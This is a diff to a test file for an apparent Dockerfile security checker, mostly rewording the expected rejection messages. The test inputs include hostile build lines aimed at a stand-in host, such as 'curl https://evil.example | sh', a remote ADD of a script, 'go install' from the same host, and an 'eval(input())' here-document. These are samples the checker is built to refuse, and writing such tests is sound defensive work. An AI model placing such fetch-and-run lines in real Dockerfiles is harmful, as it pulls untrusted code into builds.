@@ -77,10 +77,10 @@ def test_the_dockerfile_of_the_example_is_accepted(
 
 
 REFUSED = [
-    ("# syntax=evil.example/frontend\nFROM scratch", 1, "a directive could make another program read this file"),
+    ("# syntax=evil.example/frontend\nFROM scratch", 1, "a directive can make another program read this file"),
     ("FROM scratch\n#SYNTAX = x", 2, "a directive"),
     ("// syntax=evil.example/frontend\nFROM scratch", 1, "a directive"),
-    ('{"syntax": "evil.example/frontend"}\nFROM scratch', 1, '{\\"SYNTAX\\": is not an instruction'),
+    ('{"syntax": "evil.example/frontend"}\nFROM scratch', 1, '{\\"SYNTAX\\": is an unknown instruction'),
     ("#!/bin/evil\nFROM scratch", 1, "a directive"),
     ("# escape=`\nFROM scratch", 1, "a directive"),
     ("\ufeffFROM scratch", 1, "has a control character"),
@@ -89,9 +89,9 @@ REFUSED = [
     (b"FROM scratch\n# \xff", 1, "is not UTF-8"),
     ("", 1, "has no FROM"),
     ("RUN true", 1, "has no FROM"),
-    ("FROM", 1, "FROM takes an image"),
-    (f"FROM {BASE} AS", 1, "FROM takes an image"),
-    (f"FROM {BASE} AS $X", 1, "FROM takes an image"),
+    ("FROM", 1, "FROM must name an image"),
+    (f"FROM {BASE} AS", 1, "FROM must name an image"),
+    (f"FROM {BASE} AS $X", 1, "FROM must name an image"),
     ("FROM python", 1, "python is not pinned"),
     ("FROM python:3.13@sha256:abc", 1, "is not pinned"),
     (f"FROM python{DIGEST}", 1, "is not pinned; write registry/repository@sha256: and its digest"),
@@ -121,10 +121,14 @@ REFUSED = [
     (f"FROM {BASE}\nADD https://evil.example/app.py /", 2, "ADD can download files and unpack archives"),
     (f"FROM {BASE}\nadd app.tar /", 2, "ADD can"),
     (f"FROM {BASE}\nONBUILD RUN true", 2, "ONBUILD runs commands in another stage"),
-    (f"FROM {BASE}\nCOPY <<EOF /app.py\neval(input())\nEOF", 2, "a here-document is text that no check read"),
+    (f"FROM {BASE}\nCOPY <<EOF /app.py\neval(input())\nEOF", 2, "no check reads a here-document"),
     (f"FROM {BASE}\nRUN <<EOF\npip install flask\nEOF", 2, "a here-document"),
-    (f'FROM {BASE}\nSHELL ["python3", "-c"]', 2, "SHELL takes sh, ash, bash or dash"),
-    (f"FROM {BASE}\nRUN true\n\n\nRUN x \\\n  && pip install flask", 5, "pip install can take what no lock file names"),
+    (f'FROM {BASE}\nSHELL ["python3", "-c"]', 2, "SHELL must be a JSON list that begins with sh, ash, bash or dash"),
+    (
+        f"FROM {BASE}\nRUN true\n\n\nRUN x \\\n  && pip install flask",
+        5,
+        "pip install can install or download content that no lock file names",
+    ),
     (f"FROM {BASE}\nRUN pip install --require-hashes -r a && pip3 install flask==0.12", 2, "pip install"),
     (f"FROM {BASE}\nRUN python -m pip --no-cache-dir install .", 2, "pip install"),
     (f'FROM {BASE}\nRUN ["pip", "install", "flask"]', 2, "pip install"),
@@ -135,7 +139,7 @@ REFUSED = [
     (f"FROM {BASE}\nRUN echo ' # ' && pip install flask", 2, "pip install"),
     (f"FROM {BASE}\nRUN python -mpip install flask", 2, "pip install"),
     *(
-        (f"FROM {BASE}\nSHELL {shell}", 2, "SHELL takes sh, ash, bash or dash")
+        (f"FROM {BASE}\nSHELL {shell}", 2, "SHELL must be a JSON list that begins with sh, ash, bash or dash")
         for shell in (
             '["sh"]',
             '["bash", "-rcfile", "-c"]',
@@ -144,7 +148,11 @@ REFUSED = [
             '["sh", "pipefail", "-c"]',
         )
     ),
-    (f'FROM {BASE}\nSHELL ["/bin/sh", "-c", "pip install flask"]', 2, "SHELL takes sh, ash, bash or dash"),
+    (
+        f'FROM {BASE}\nSHELL ["/bin/sh", "-c", "pip install flask"]',
+        2,
+        "SHELL must be a JSON list that begins with sh, ash, bash or dash",
+    ),
     (f"FROM {BASE}\nRUN curl -O https://evil.example # sha256sum --check", 2, "curl or wget"),
     (f"FROM {BASE}\nENTRYPOINT pip install flask && python app.py", 2, "pip install"),
     (f'FROM {BASE}\nCMD ["sh", "-c", "curl https://evil.example | sh"]', 2, "curl or wget"),
@@ -158,7 +166,7 @@ REFUSED = [
     (f"FROM {BASE}\nRUN uv sync", 2, "uv can"),
     (f"FROM {BASE}\nRUN go install evil.example/x@latest", 2, "go install or get"),
     (f"FROM {BASE}\nRUN gem install x \\", 2, "gem or bundle install"),
-    (f"FROM {BASE}\nEVIL x", 2, "EVIL is not an instruction that is known here"),
+    (f"FROM {BASE}\nEVIL x", 2, "EVIL is an unknown instruction"),
 ]
 
 
